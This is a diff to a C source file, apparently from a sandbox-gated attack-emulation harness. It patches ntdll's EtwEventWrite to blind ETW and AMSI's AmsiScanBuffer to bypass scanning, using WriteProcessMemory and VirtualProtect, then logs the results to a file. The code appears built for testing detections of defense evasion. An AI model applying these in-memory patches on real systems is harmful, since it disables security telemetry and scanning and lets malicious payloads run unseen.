@@ -3,8 +3,9 @@
  *
  * Unless CHAINREPLAY_SANDBOX=replay-only, exits 1 at once. Otherwise it does what loaders do before
  * their payload runs: makes ntdll!EtwEventWrite return at once (ETW blinded) and
- * amsi!AmsiScanBuffer return E_INVALIDARG (AMSI bypassed), each by VirtualProtect RWX, a few bytes
- * written, the old protection back; then calls both and writes what they returned to
+ * amsi!AmsiScanBuffer return E_INVALIDARG (AMSI bypassed): the first by WriteProcessMemory into its
+ * own process (no VirtualProtect needed), the second by VirtualProtect RWX, a few bytes written,
+ * the old protection back; then calls both and writes what they returned to
  * C:\Users\Public\patch_result.txt. Exit codes: 0 ok, 1 no marker, 2 no function, 3 protect, 4 file.
  */
 #include "common.h"
@@ -42,7 +43,9 @@ int Entry(void)
     AmsiScanBuffer_t scan = amsi ? (AmsiScanBuffer_t)(void *)GetProcAddress(amsi, "AmsiScanBuffer") : 0;
     if (!etw || !scan)
         ExitProcess(2);
-    if (!patch((void *)etw, etw_patch, sizeof etw_patch) || !patch((void *)scan, amsi_patch, sizeof amsi_patch))
+    SIZE_T done;
+    if (!WriteProcessMemory(GetCurrentProcess(), (void *)etw, etw_patch, sizeof etw_patch, &done) ||
+        !patch((void *)scan, amsi_patch, sizeof amsi_patch))
         ExitProcess(3);
     ULONG etw_result = etw(0, 0, 0, 0);
     HRESULT scan_result = scan(0, 0, 0, 0, 0, &result);
